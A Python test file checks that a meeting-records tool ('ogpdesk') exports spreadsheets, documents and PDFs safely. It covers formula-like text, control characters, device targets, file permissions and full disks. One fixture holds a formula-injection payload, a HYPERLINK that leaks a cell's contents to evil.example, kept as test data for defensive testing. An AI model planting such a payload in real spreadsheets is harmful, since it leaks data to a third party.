"""Exports that cannot run code or break: formulas, phones, special targets, full disks."""

from __future__ import annotations

import datetime as dt
import os
import subprocess
import sys
from pathlib import Path

import openpyxl
import pytest
from sqlalchemy import update

from ogpdesk.core import capture
from ogpdesk.core.demo import load_demo
from ogpdesk.core.errors import OgpdeskError
from ogpdesk.core.meetings import create_meeting
from ogpdesk.core.models import AttendanceStatus, Recommendation
from ogpdesk.core.participants import add_newcomer
from ogpdesk.core.store import Store
from ogpdesk.documents.export import ExportRequest, export

HOSTILE = '=HYPERLINK("http://evil.example/?leak="&A1,"Amina")'


def _request(kind: str, output: Path, **more: object) -> ExportRequest:
    return ExportRequest(kind=kind, meeting="Kef", process=None, lang="fr", output=output, **more)  # type: ignore[arg-type]


@pytest.fixture
def hostile(store: Store) -> Store:
    with store.transaction() as session:
        meeting = create_meeting(session, title="Kef", date=dt.date(2024, 5, 14), city="El Kef")
        add_newcomer(
            session, meeting, HOSTILE, phone="0021655443322", status=AttendanceStatus.PRESENT
        )
        add_newcomer(session, meeting, "+216 Sami", organisation="@ASM", phone="98111222")
        capture.add_recommendation(session, meeting, "-1+1 est une remarque, pas un calcul")
        capture.add_decision(session, meeting, "Adopter le plan\x07 (\u202eclos)")
    return store


def _cells(path: Path) -> dict[str, openpyxl.cell.cell.Cell]:
    sheet = openpyxl.load_workbook(path).active
    return {str(c.value): c for row in sheet.iter_rows() for c in row if c.value is not None}


def test_text_beginning_like_a_formula_is_written_as_inert_text(
    hostile: Store, tmp_path: Path
) -> None:
    with hostile.session() as session:
        path = export(
            session, _request("attendance", tmp_path / "presence.xlsx", include_private=True)
        )
        minutes = export(session, _request("minutes", tmp_path / "pv.xlsx"))
    cells = _cells(path)
    for text in (HOSTILE, "+216 Sami", "@ASM"):
        assert cells[text].data_type == "s", text
        assert cells[text].quotePrefix, text
    # A phone keeps its zeros and stays text: never the number 21655443322.
    assert cells["0021655443322"].data_type == "s"
    assert cells["98111222"].data_type == "s"
    assert not any(c.data_type == "f" for c in _cells(minutes).values())
    assert any("-1+1 est une remarque" in text for text in _cells(minutes))


def test_control_characters_stored_before_never_stop_docx_or_xlsx(
    hostile: Store, tmp_path: Path
) -> None:
    # A row written by an older version, which did not clean what it stored.
    with hostile.transaction() as session:
        session.execute(update(Recommendation).values(text="Réseau\x07 \x1b[31m\u202erouge"))
    with hostile.session() as session:
        for suffix in (".docx", ".xlsx", ".pdf"):
            assert export(session, _request("minutes", tmp_path / f"pv{suffix}")).exists()
    assert any("Réseau [31mrouge" in text for text in _cells(tmp_path / "pv.xlsx"))


def test_a_device_or_a_pipe_is_refused_as_a_target(hostile: Store, tmp_path: Path) -> None:
    # Another program may have left one there: it must stay as it is.
    device_folder = Path("/dev/full.pdf")
    before = device_folder.stat().st_mtime_ns if device_folder.exists() else None
    fifo = tmp_path / "pipe.pdf"
    os.mkfifo(fifo)
    with hostile.session() as session:
        with pytest.raises(OgpdeskError, match="/dev is a system folder"):
            export(session, _request("minutes", Path("/dev/full.pdf")))
        with pytest.raises(OgpdeskError, match="not a file"):
            export(session, _request("minutes", fifo))
    assert (device_folder.stat().st_mtime_ns if device_folder.exists() else None) == before


def test_the_file_gets_the_users_umask_and_killed_exports_are_swept(
    hostile: Store, tmp_path: Path
) -> None:
    dead = subprocess.run(
        [sys.executable, "-c", "import os; print(os.getpid())"],
        capture_output=True,
        text=True,
        check=True,
    ).stdout.strip()
    left = tmp_path / f".ogpdesk-{dead}-abcd.pdf"
    left.write_bytes(b"%PDF-1.4 half")
    mine = tmp_path / f".ogpdesk-{os.getpid()}-efgh.pdf"
    mine.write_bytes(b"being written")
    previous = os.umask(0o027)
    try:
        with hostile.session() as session:
            path = export(session, _request("minutes", tmp_path / "pv.pdf"))
    finally:
        os.umask(previous)
    assert path.stat().st_mode & 0o777 == 0o640
    assert not left.exists() and mine.exists()


def _cli(*args: str, cwd: Path) -> subprocess.CompletedProcess[str]:
    return subprocess.run(
        [sys.executable, "-m", "ogpdesk.cli", *args],
        capture_output=True,
        text=True,
        cwd=cwd,
        env={**os.environ, "OGPDESK_LANG": "en"},
    )


@pytest.mark.parametrize("suffix", [".docx", ".xlsx", ".pdf"])
def test_a_full_disk_gives_one_message_and_leaves_nothing(
    hostile: Store, database: str, tmp_path: Path, small_disk, suffix: str
) -> None:
    small_disk.fill()
    before = sorted(p.name for p in small_disk.path.iterdir())
    target = small_disk.path / f"pv{suffix}"
    done = _cli(
        "--db",
        database,
        "export",
        "minutes",
        "--meeting",
        "Kef",
        "-o",
        str(target),
        cwd=tmp_path,
    )
    assert done.returncode == 1
    assert done.stderr.startswith(f"ogpdesk: Cannot write “{target}”: No space left on device")
    assert "Exception ignored" not in done.stderr and "Traceback" not in done.stderr
    assert sorted(p.name for p in small_disk.path.iterdir()) == before


@pytest.fixture
def plan(store: Store) -> Store:
    with store.transaction() as session:
        load_demo(session)
    return store


def _site(store: Store, folder: Path) -> Path:
    with store.session() as session:
        return export(
            session,
            ExportRequest(
                kind="site",
                meeting=None,
                process="El Kef",
                lang="ar",
                output=folder,
                today=dt.date(2025, 10, 20),
            ),
        )


def test_the_site_is_replaced_whole_or_not_at_all(plan: Store, small_disk) -> None:
    folder = small_disk.path / "site"
    _site(plan, folder)
    (folder / "logo.svg").write_text("<svg/>")
    first = {p.name: p.read_bytes() for p in folder.iterdir()}
    assert folder.stat().st_mode & 0o777 == 0o755
    _site(plan, folder)
    assert {p.name: p.read_bytes() for p in folder.iterdir()} == first
    # No room for a second copy of the pages: the old site stays whole, nothing beside it.
    small_disk.fill(leave=sum(map(len, first.values())) // 2)
    with plan.session() as session:
        process_words = session  # the same export, now on a nearly full disk
        with pytest.raises(OgpdeskError, match="No space left on device"):
            export(
                process_words,
                ExportRequest(
                    kind="site",
                    meeting=None,
                    process="El Kef",
                    lang="ar",
                    output=folder,
                    today=dt.date(2025, 10, 21),
                ),
            )
    assert {p.name: p.read_bytes() for p in folder.iterdir()} == first
    assert not [p for p in small_disk.path.iterdir() if p.name.startswith(".ogpdesk-")]


def test_the_site_in_a_read_only_folder_is_a_message(plan: Store, small_disk) -> None:
    small_disk.read_only()
    with pytest.raises(OgpdeskError, match="Read-only file system"):
        _site(plan, small_disk.path / "site")
